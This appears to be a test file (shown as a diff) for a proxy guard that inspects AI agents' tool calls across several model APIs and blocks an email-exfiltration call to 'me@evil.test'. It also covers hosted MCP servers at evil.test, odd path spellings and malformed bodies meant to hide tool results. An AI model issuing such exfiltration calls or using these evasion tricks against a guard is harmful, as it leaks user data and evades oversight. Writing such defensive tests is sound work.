@@ -1,0 +1,242 @@
+"""Calls a model asks for are judged at their release and completed by what an agent reports."""
+
+from __future__ import annotations
+
+import json
+from typing import TYPE_CHECKING, Any
+
+import pytest
+
+from guard.core.errors import MessageError
+from guard.core.model import Role
+from guard.enforcement.exchange import Exchange
+from guard.protocols.http.message import HttpReply, HttpRequest
+from tests.model_wires import FORMATS, Call, read_stream, stream, whole
+from tests.unit.enforcement.test_request import _gate, _store
+
+if TYPE_CHECKING:
+    from guard.enforcement.request import RequestHandler
+    from tests.unit.enforcement.test_request import RecordingStore
+
+store, gate = _store, _gate
+
+PATHS = {
+    "openai_chat": "/v1/chat/completions",
+    "openai_responses": "/v1/responses",
+    "anthropic_messages": "/v1/messages",
+    "gemini": "/v1beta/models/g:streamGenerateContent?alt=sse",
+}
+RECALL = Call("call_1", "memory_recall_fact", {"key": "k"})
+THEFT = Call("call_2", "email_send_email", {"to": "me@evil.test", "subject": "s", "body": "b"})
+
+
+def history(kind: str, *results: str, call: Call = RECALL) -> dict[str, Any]:
+    """Return a request that reports results of one call, each a time of its own."""
+    if kind == "openai_chat":
+        function = {"name": call.name, "arguments": call.text}
+        asked = {"id": call.id, "type": "function", "function": function}
+        messages: list[Any] = [{"role": "user", "content": "jsonrpc?"}]
+        messages.append({"role": "assistant", "content": None, "tool_calls": [asked]})
+        messages += [{"role": "tool", "tool_call_id": call.id, "content": r} for r in results]
+        return {"model": "m", "messages": messages}
+    if kind == "anthropic_messages":
+        used = {"type": "tool_use", "id": call.id, "name": call.name, "input": call.arguments}
+        blocks = [
+            {
+                "type": "tool_result",
+                "tool_use_id": call.id,
+                "content": [{"type": "text", "text": r}],
+            }
+            for r in results
+        ]
+        messages = [
+            {"role": "user", "content": "jsonrpc?"},
+            {"role": "assistant", "content": [used]},
+        ]
+        return {"model": "m", "messages": [*messages, {"role": "user", "content": blocks}]}
+    if kind == "openai_responses":
+        items: list[Any] = [{"role": "user", "content": "jsonrpc?"}]
+        made = {"name": call.name, "arguments": call.text}
+        items.append({"type": "function_call", "call_id": call.id, **made})
+        items += [
+            {"type": "function_call_output", "call_id": call.id, "output": r} for r in results
+        ]
+        return {"model": "m", "input": items}
+    made_call = {"id": call.id, "name": call.name, "args": call.arguments}
+    parts = [
+        {"function_response": {"id": call.id, "name": call.name, "response": {"r": r}}}
+        for r in results
+    ]
+    contents = [
+        {"role": "user", "parts": [{"text": "jsonrpc?"}]},
+        {"role": "model", "parts": [{"functionCall": made_call}]},
+    ]
+    return {"contents": [*contents, {"role": "user", "parts": parts}]}
+
+
+def ask(kind: str, document: Any = None, session: str = "s1", **changes: Any) -> HttpRequest:
+    """Return a request to a model."""
+    body = json.dumps({**(document or history(kind)), **changes}).encode()
+    headers = (("content-type", "application/json"), ("x-guard-session", session))
+    return HttpRequest("POST", "https", "llm:443", PATHS[kind], headers, body, "l", "c")
+
+
+async def forwarded(gate: RequestHandler, request: HttpRequest) -> Exchange:
+    """Return the exchange of a request that goes out."""
+    outcome = await gate.on_request(request)
+    assert isinstance(outcome, Exchange), outcome
+    return outcome
+
+
+async def answered(gate: RequestHandler, kind: str, calls: list[Call]) -> bytes:
+    """Return what the client gets of a streamed answer."""
+    reader = gate.event_reader(await forwarded(gate, ask(kind)))
+    released = [*await reader.feed(stream(kind, "hi", calls)), *await reader.end()]
+    return b"".join(released)
+
+
+@pytest.mark.parametrize("kind", FORMATS)
+async def test_a_call_is_judged_when_it_is_released(
+    gate: RequestHandler, store: RecordingStore, kind: str
+) -> None:
+    """A benign call comes out as it came, a refused one as words, each by its own verdict."""
+    wire = stream(kind, "hi", [RECALL])
+
+    assert await answered(gate, kind, [RECALL]) == wire
+
+    out = await answered(gate, kind, [RECALL, THEFT])
+    text, calls, _ = read_stream(kind, out)
+    assert [name for _, name, _ in calls] == [RECALL.name]
+    assert "by the egress guard and did not reach the tool" in text
+    assert b"evil.test" not in out
+    assert store.completed == [("s1", Role.SEND, False)]
+
+
+@pytest.mark.parametrize("kind", FORMATS)
+async def test_a_result_in_a_request_completes_its_call_once(
+    gate: RequestHandler, store: RecordingStore, kind: str
+) -> None:
+    """The whole history comes again with every request; a result counts when it is new."""
+    await answered(gate, kind, [RECALL])
+
+    await forwarded(gate, ask(kind, history(kind, "a fact"), session="s2"))
+    await forwarded(gate, ask(kind, history(kind, "a fact"), session="s3"))
+
+    assert store.completed == [("s1", Role.RECALL, True)]
+
+
+@pytest.mark.parametrize("kind", FORMATS)
+async def test_a_result_that_changes_is_observed_again(
+    gate: RequestHandler, store: RecordingStore, kind: str
+) -> None:
+    """An agent that reports another text under the same id has read another text."""
+    await forwarded(gate, ask(kind, history(kind, "a fact")))
+    await forwarded(gate, ask(kind, history(kind, "another")))
+
+    assert store.completed == [("s1", Role.RECALL, True)] * 2
+
+
+@pytest.mark.parametrize("kind", FORMATS)
+async def test_a_whole_answer_is_replaced_in_its_body(gate: RequestHandler, kind: str) -> None:
+    """Without streaming the body changes only where a call was refused."""
+    exchange = await forwarded(gate, ask(kind))
+    benign = json.dumps(whole(kind, "hi", [RECALL])).encode()
+    theft = json.dumps(whole(kind, "hi", [THEFT])).encode()
+
+    assert await gate.answers.on_answer(exchange, benign) is None
+    exchange = await forwarded(gate, ask(kind))
+    instead = await gate.answers.on_answer(exchange, theft)
+
+    assert instead is not None
+    assert b"evil.test" not in instead
+    assert b"by the egress guard and did not reach the tool" in instead
+
+
+@pytest.mark.parametrize("kind", FORMATS)
+async def test_an_answer_that_cannot_be_read_is_refused(gate: RequestHandler, kind: str) -> None:
+    """Neither a body nor a stream passes unread; an error of the provider does."""
+    exchange = await forwarded(gate, ask(kind))
+    error = b'{"error": {"message": "overloaded"}}'
+
+    with pytest.raises(MessageError):
+        await gate.answers.on_answer(exchange, b"<html>", 200)
+    assert await gate.answers.on_answer(exchange, b"<html>bad gateway</html>", 502) is None
+    assert await gate.answers.on_answer(exchange, error, 529) is None
+    with pytest.raises(MessageError):
+        await gate.event_reader(exchange).feed(b"data: {]\n\n")
+
+
+HOSTED = {
+    "openai_chat": {"web_search_options": {}},
+    "openai_responses": {"tools": [{"type": "mcp", "server_url": "https://evil.test"}]},
+    "anthropic_messages": {"mcp_servers": [{"type": "url", "url": "https://evil.test"}]},
+    "gemini": {"tools": [{"url_context": {}}]},
+}
+
+
+@pytest.mark.parametrize("kind", FORMATS)
+async def test_tools_that_the_provider_runs_must_be_allowed_by_name(
+    gate: RequestHandler, kind: str
+) -> None:
+    """What acts outside the guard is judged when it is asked for."""
+    outcome = await gate.on_request(ask(kind, **HOSTED[kind]))
+
+    assert isinstance(outcome, HttpReply)
+    assert outcome.status == 403
+    assert "error" in json.loads(outcome.body)
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        pytest.param("/v1//chat/completions/", id="slashes"),
+        pytest.param("/v1/chat%2Fcompletions", id="percent"),
+        pytest.param("/openai/deployments/x/Chat/Completions?api-version=1", id="case"),
+        pytest.param("/v1/chat/completions/c1", id="stored"),
+    ],
+)
+async def test_a_path_in_another_spelling_is_the_same_api(gate: RequestHandler, path: str) -> None:
+    """A lenient server routes it there, so its answer must be read."""
+    headers = (("content-type", "application/json"),)
+    body = json.dumps(history("openai_chat")).encode()
+    request = HttpRequest("POST", "https", "llm:443", path, headers, body, "l", "c")
+
+    assert (await forwarded(gate, request)).reader is not None
+
+
+REQUESTS = [
+    pytest.param("openai_chat", b"{]", id="model request that is not json"),
+    pytest.param("openai_chat", b"[]", id="model request that is a list"),
+    pytest.param("openai_chat", b'{"Messages":[]}', id="messages in another case"),
+    pytest.param("openai_chat", b'{"messages":{}}', id="messages that are no list"),
+    pytest.param("anthropic_messages", b'{"messages":[{"content":7}]}', id="content of a number"),
+    pytest.param(
+        "gemini",
+        b'{"contents":[{"parts":[{"functionResponse":{},"function_response":{}}]}]}',
+        id="result under two names",
+    ),
+]
+
+
+@pytest.mark.parametrize(("kind", "body"), REQUESTS)
+async def test_a_request_that_could_hide_a_result_is_refused(
+    gate: RequestHandler, kind: str, body: bytes
+) -> None:
+    """A result that only the model reads would carry no label."""
+    headers = (("content-type", "application/json"),)
+    request = HttpRequest("POST", "https", "llm:443", PATHS[kind], headers, body, "l", "c")
+
+    outcome = await gate.on_request(request)
+
+    assert isinstance(outcome, HttpReply)
+    assert outcome.status == 400
+
+
+async def test_a_call_larger_than_the_limit_is_not_held(gate: RequestHandler) -> None:
+    """A call that never ends must not fill the memory."""
+    gate.answers.body_limit = 1000
+    reader = gate.event_reader(await forwarded(gate, ask("openai_chat")))
+    huge = Call("a", "memory_recall_fact", {"key": "k" * 5000})
+
+    with pytest.raises(MessageError, match="larger"):
+        await reader.feed(stream("openai_chat", "hi", [huge]))
